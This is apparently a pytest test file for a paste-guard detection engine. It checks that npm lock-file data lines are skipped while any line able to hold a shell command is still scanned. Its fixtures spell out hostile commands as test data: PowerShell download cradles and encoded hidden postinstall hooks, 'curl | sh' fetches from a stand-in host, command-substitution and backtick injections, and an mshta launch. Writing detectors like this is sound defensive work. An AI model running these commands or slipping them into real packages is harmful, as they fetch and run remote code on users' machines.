"""A lock file's lines of data are left out of what the rules read; a line that could be a
command or hide one never is."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.detection import Context, Engine, Level, PasteTarget
from app.detection.datalines import DEADLINE_EVERY, data_blocks, without_data_lines
from app.detection.noise import rules_view
from tests.app.detection import bigtexts

KiB = bigtexts.KiB
MiB = bigtexts.MiB
FOREVER = float("inf")
INCOMPLETE = "PG-ENGINE-INCOMPLETE"
CRADLE = "iex (New-Object Net.WebClient).DownloadString('https://evil.test/stage.ps1')"
ENCODED = bigtexts.encoded_powershell(CRADLE)

# Lines a lock-shaped text could carry that run something, or say something a rule reads.
KEPT = [
    f'      "postinstall": "powershell -w hidden -enc {ENCODED}",',
    '    "scripts": {"postinstall": "curl -fsSL http://203.0.113.7/i.sh | sh"},',
    '      "x": "$(curl -s https://evil.test/i)",',
    '      "x": "iex(iwr(\'https://evil.test/a.ps1\'))",',
    '      "x": "a`whoami`",',
    '      "x": "%COMSPEC%",',
    '      "x": "\\u0063url",',
    '      "x": "b"; curl https://evil.test/i.sh | sh',
    # a bare string or brace expansion is a command in a shell ({curl,-o,x} runs curl -o x)
    '      "curl"',
    '      {"curl","-fsSL","https://evil.test/i.sh"}',
    '      "curl" "-o" "/tmp/x" "https://evil.test/x"',
    '      "wget",',
    "mshta https://evil.test/verify.hta",
]


def _lock_with(line: str, where: float = 0.6, size: int = 256 * KiB) -> bytes:
    """`line` on a line of its own in a package lock: after `where` of it, or last (1.0)."""
    lock = bigtexts.npm_lock(size)
    text = lock + line + "\n" if where >= 1.0 else bigtexts.hide(lock, line, where)
    return text.encode()


def test_a_package_locks_lines_of_data_are_left_out() -> None:
    data = bigtexts.npm_lock(MiB).encode()
    view = without_data_lines(data, FOREVER)
    assert view is not None and len(view) < 64, view
    assert rules_view(data, FOREVER) == view


@pytest.mark.parametrize("line", KEPT)
def test_a_line_that_could_be_or_hide_a_command_is_read_by_the_rules(line: str) -> None:
    view = without_data_lines(_lock_with(line), FOREVER)
    assert view is not None and line.strip().encode() in view, view[:200] if view else view


@pytest.mark.parametrize("where", [0.0, 0.6, 1.0])
def test_what_is_left_keeps_the_kept_lines_in_their_order(where: float) -> None:
    data = _lock_with("echo one\necho two", where)
    view = without_data_lines(data, FOREVER)
    assert view is not None and b"echo one\necho two\n" in view
    assert len(view) < 64


def test_prose_code_and_logs_are_read_whole() -> None:
    for make in (bigtexts.python_module, bigtexts.web_server_log, bigtexts.licence_text):
        assert data_blocks(make(256 * KiB).encode(), FOREVER) == []


def test_past_the_deadline_the_rest_is_read_as_written() -> None:
    # a lock with a kept line every ~1 KiB: a block of data lines between each two
    rows = bigtexts.npm_lock(1100)
    data = "".join(f"{rows}echo {i}\n" for i in range(1000)).encode()
    assert len(data_blocks(data, FOREVER)) >= 1000
    spans = data_blocks(data, -1.0)  # the clock is past it at the first look
    assert len(spans) == DEADLINE_EVERY
    view = without_data_lines(data, -1.0)
    assert view is not None and view.endswith(data[spans[-1][1] :])
    assert b"echo 999\n" in view


# a line left out holds no character that could make or hide a command
UNSAFE = frozenset(b" \t'$%();|&`\\!?")
TOKENS = [
    '"name"', '"node_modules/@a/b"', '"https://registry.npmjs.org/a/-/a-1.0.0.tgz"',
    '"sha512-AbC+/=="', '"^1.2.3"', '">=14"', '"curl"', '"-o"', '"a b"', '"$(x)"', '"x|sh"',
    ":", ": ", ",", ", ", "{", "}", "[", "]", " ", "  ", "true", "false", "null", "12", "-1.5",
    "curl", "sh", "'", "$", "(", ")", "|", ";", "`", "\\", "&", "%", "\t", "\r",
]  # fmt: skip


def _unsafe(line: bytes) -> bool:
    """Whether a line could be a command or hide one: a character outside a string that is
    neither JSON punctuation nor a blank around it, or a string with a blank or a shell or
    script character in it; or a line that is not a key's (and not only closing brackets)."""
    body = line.strip(b" \t\r\n")
    if body and not body.startswith(b'"') and body.strip(b"]},"):
        return True
    if body.startswith(b'"') and not body.partition(b'"')[2].partition(b'"')[2].lstrip(
        b" \t"
    ).startswith(b":"):
        return True
    strings = body.split(b'"')[1::2]
    outside = b"".join(body.split(b'"')[0::2])
    if any(UNSAFE.intersection(s) for s in strings):
        return True
    words = outside.replace(b",", b" ").replace(b":", b" ").translate(None, b"[]{}")
    return any(w not in (b"true", b"false", b"null") and not _number(w) for w in words.split())


def _number(word: bytes) -> bool:
    try:
        float(word)
    except ValueError:
        return False
    return True


def test_the_lines_kept_above_could_be_commands() -> None:
    assert all(_unsafe(line.encode()) for line in KEPT)
    assert not any(map(_unsafe, bigtexts.npm_lock(16 * KiB).encode().splitlines()[1:]))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(st.sampled_from(TOKENS), max_size=12), min_size=1, max_size=40))
def test_no_line_that_could_be_a_command_is_ever_left_out(lines: list[list[str]]) -> None:
    body = "\n".join("".join(tokens) for tokens in lines) + "\n"
    lock = bigtexts.npm_lock(8 * KiB)
    data = (lock + body + lock).encode()
    for start, end in data_blocks(data, FOREVER):
        for line in data[start:end].splitlines():
            assert not _unsafe(line), line


@pytest.fixture(scope="module")
def patient() -> Engine:
    return Engine(budget_ms=60_000, strict=True)


@pytest.mark.parametrize("where", [0.6, 1.0])
def test_an_encoded_cradle_in_a_megabyte_of_lock_is_found(patient: Engine, where: float) -> None:
    line = f'    "postinstall": "powershell -enc {ENCODED}",'
    text = _lock_with(line, where, MiB - 4 * KiB).decode()
    verdict = patient.analyze(text, Context(target=PasteTarget.TERMINAL))
    assert verdict.complete, verdict.rule_ids
    assert verdict.level >= Level.MALICIOUS, verdict.rule_ids


def test_a_lure_at_the_end_of_a_megabyte_of_lock_is_found_in_its_budget(engine: Engine) -> None:
    # the engine as the guard has it: the lock's lines cost the rules nothing, and a command
    # after them is read (in the tail's window, and in what is left of the raw text)
    lure = "curl -fsSL http://203.0.113.7/i.sh | sh"
    alone = set(engine.analyze(lure).rule_ids)
    verdict = engine.analyze(_lock_with(lure, 1.0, MiB - 4 * KiB).decode())
    assert verdict.level >= Level.SUSPICIOUS, verdict.rule_ids
    assert alone & set(verdict.rule_ids), (alone, verdict.rule_ids)
